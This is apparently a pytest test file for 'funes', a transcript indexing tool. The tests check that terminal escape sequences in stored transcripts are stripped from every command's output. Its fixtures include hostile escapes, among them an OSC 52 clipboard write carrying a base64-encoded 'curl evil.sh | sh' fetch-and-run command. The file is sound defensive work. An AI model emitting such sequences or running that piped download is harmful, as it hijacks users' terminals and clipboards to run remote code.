"""Terminal escapes in a transcript never reach the terminal (or the agent) that prints funes's
output: an OSC 52 sequence would write the user's clipboard, OSC 2 the window title, a CSI or a
carriage return could redraw funes's own lines."""

from __future__ import annotations

import json

import pytest
from trust_fixtures import claude_transcript, funes

from funes.safe_text import strip_controls

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" to the clipboard
TITLE = "\x1b]2;pwned\x1b\\"  # OSC 2 ended by ST
DCS = "\x1bP+q544e\x1b\\"  # DCS (a termcap query)
EIGHT_BIT = "\x9d0;title\x9c\x9b2J"  # 8-bit OSC and CSI (clear screen)
HOSTILE = (
    f"the PANGOLINCACHE {CLIPBOARD}is {TITLE}warm{DCS} \x1b[31mred\x1b[0m {EIGHT_BIT}ok\rX\x08\x07"
)


def _assert_inert(output: str) -> None:
    for control in ("\x1b", "\x07", "\x9b", "\x9c", "\x9d", "\x90", "\r", "\x08"):
        assert control not in output, (control, output)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (HOSTILE, "the PANGOLINCACHE is warm red okX"),
        ("tab\tand\nnewline stay", "tab\tand\nnewline stay"),
        (
            "an OSC never ended\x1b]52;c;AAAA\nthe next line stays",
            "an OSC never ended\nthe next line stays",
        ),
        ("ESC c resets: \x1bc, charset \x1b(B, lone \x1b", "ESC c resets: , charset , lone "),
        ("DEL\x7f and C1 \x85 go; ünïcödé → stays", "DEL and C1  go; ünïcödé → stays"),
    ],
)
def test_strip_controls_keeps_the_text_and_nothing_a_terminal_acts_on(raw: str, shown: str) -> None:
    assert strip_controls(raw) == shown
    _assert_inert(strip_controls(raw))


def test_no_command_prints_a_transcripts_escape_sequences() -> None:
    claude_transcript("esc-session", [f"why is {HOSTILE}", f"because {HOSTILE}"])
    assert funes("index", "--all").returncode == 0

    outputs = {}
    for fmt in ("agent", "human"):
        outputs[f"recall {fmt}"] = funes("recall", "PANGOLINCACHE", "--format", fmt)
    outputs["recall json"] = funes("recall", "PANGOLINCACHE", "--json")
    outputs["show"] = funes("show", "esc-sess")
    outputs["show json"] = funes("show", "esc-sess", "--json")
    outputs["get"] = funes("get", "esc-sess", "esc-session-u1")
    outputs["get json"] = funes("get", "esc-sess", "esc-session-u1", "--json")
    outputs["catchup"] = funes("catchup", "esc-sess")
    outputs["catchup json"] = funes("catchup", "esc-sess", "--json")
    outputs["sessions"] = funes("sessions", "--plain")
    outputs["sessions json"] = funes("sessions", "--json")
    for name, done in outputs.items():
        assert done.returncode == 0, (name, done.stderr)
        assert "PANGOLINCACHE" in done.stdout, name
        _assert_inert(done.stdout)
    # JSON keeps its own escapes (`\u001b`): data for a program, inert on a terminal.
    hit = json.loads(outputs["recall json"].stdout)["hits"][0]
    assert "PANGOLINCACHE" in hit["text"]
